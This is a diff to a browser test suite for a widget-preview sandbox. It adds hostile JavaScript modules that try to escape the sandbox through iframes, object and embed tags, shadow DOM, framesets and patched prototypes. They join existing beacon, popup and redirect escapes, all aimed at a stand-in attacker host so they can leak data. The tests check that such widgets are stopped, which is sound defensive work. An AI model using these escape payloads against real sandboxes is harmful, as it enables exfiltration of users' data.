@@ -55,10 +55,8 @@ const TRIES = {
   popup: () => { if (open(EVIL + "/popup") !== null) return "opened"; throw new Error(); },
   topNavigation: () => { top.location = EVIL + "/top"; },
   webrtc: () => new RTCPeerConnection(),
-  webrtcOfChild: () => {
-    const frame = document.body.appendChild(document.createElement("iframe"));
-    return new frame.contentWindow.RTCPeerConnection();
-  },
+  shadowFromMarkup: () => document.body.setHTMLUnsafe(
+    `<div><template shadowrootmode=closed><iframe src=${EVIL}></iframe></template></div>`),
 };
 export async function mount(element) {
   navigator.sendBeacon(EVIL + "/beacon", "x");
@@ -94,6 +92,8 @@ ESCAPES = {
     "download": "make('a', { href: EVIL, download: 'x' }).click()",
     "refresh": "make('meta', { httpEquiv: 'refresh', content: `0;url=${EVIL}` })",
     "rewrite": "document.open(); document.write('Mine.'); document.close()",
+    "write": "document.write(`<div><template shadowrootmode=closed>"
+    "<iframe src=${EVIL}></iframe></template></div>`)",
 }
 ESCAPE = """
 const EVIL = "{evil}/secret";
@@ -102,9 +102,44 @@ const make = (tag, more) => document.body.appendChild(
 export function mount() { %s; }
 """
 
+# Every way to make a frame. A browser may connect to its host before the policy blocks it, so
+# each host name can carry data.
+FRAMES = {
+    "iframe": "place.append(make('iframe', { src: EVIL }))",
+    "object": "place.append(make('object', { data: EVIL }))",
+    "embed": "place.append(make('embed', { src: EVIL }))",
+    "html": "place.innerHTML = `<p><iframe src=${EVIL}></iframe></p>`",
+    "removed": "const it = make('iframe', { src: EVIL }); place.append(it); it.remove()",
+    "frameset": "document.body.replaceWith(make('frameset')); "
+    "document.querySelector('frameset').append(make('frame', { src: EVIL }))",
+    "shadow": "const host = place.appendChild(make('div')); "
+    "host.attachShadow({ mode: 'closed' }).append(make('iframe', { src: EVIL }))",
+    "window": "const { contentWindow } = place.appendChild(make('iframe')); "
+    "contentWindow.location = EVIL; new contentWindow.RTCPeerConnection()",
+    "cloned": "const host = make('div'); const mode = 'open'; "
+    "host.attachShadow({ mode, clonable: true }).append(make('iframe', { src: EVIL })); "
+    "place.append(host.cloneNode(true))",
+    "patched": "MessagePort.prototype.postMessage = () => {}; "
+    "MutationObserver.prototype.disconnect = MutationObserver.prototype.observe = () => {}; "
+    "Array.prototype[Symbol.iterator] = function* () {}; Object.defineProperty("
+    "Element.prototype, 'querySelector', { value: () => null }); "
+    "place.append(make('iframe', { src: EVIL }))",
+}
+FRAME = """
+const make = (tag, more) => Object.assign(document.createElement(tag), more);
+export function mount(place) {
+  let count = 0;
+  setInterval(() => {
+    const EVIL = `{evil}/${count += 1}`;
+    %s;
+  }, 200);
+}
+"""
+
 MODULES = {
     "attack": ATTACK,
     **{f"escape-{name}": ESCAPE % way for name, way in ESCAPES.items()},
+    **{f"frame-{name}": FRAME % way for name, way in FRAMES.items()},
     "endless": "export function mount() { setTimeout(() => { for (;;); }, 200); }",
     "endless-import": "for (;;); export function mount() {}",
     "flood": """export function mount() {
@@ -137,6 +172,9 @@ CALM = {
     "foreign": "This module is made for another kind of dashboard: it does not export mount().",
     "throws": "The widget could not start. It says: <b>No</b> place to draw.",
 }
+
+
+FRAMES_ENDED = "The widget opened a frame, which is not allowed in a preview, so it was ended."
 
 
 class Listener:
@@ -317,6 +355,20 @@ def test_a_widget_that_leaves_its_frame_is_ended_and_takes_nothing_along(
     # The browser may have preconnected, but has sent no request.
     assert b"".join(evil.heard) == b""
     assert page.url == f"{service.url}/preview/trial/escape-{way}/1.0.0"
+
+
+@pytest.mark.parametrize("way", FRAMES)
+def test_a_widget_that_makes_frames_is_ended(
+    context: BrowserContext, service: Service, evil: Listener, way: str
+) -> None:
+    evil.heard.clear()
+    page = opened(context, service, f"trial/frame-{way}/1.0.0")
+    expect(status(page)).to_have_text(FRAMES_ENDED, timeout=10_000)
+    expect(page.locator("iframe")).to_have_count(0)
+    page.wait_for_timeout(1_500)
+    # The browser may have connected once, but has sent no request.
+    assert len(evil.heard) <= 1
+    assert b"".join(evil.heard) == b""
 
 
 @pytest.mark.parametrize("name", CALM)
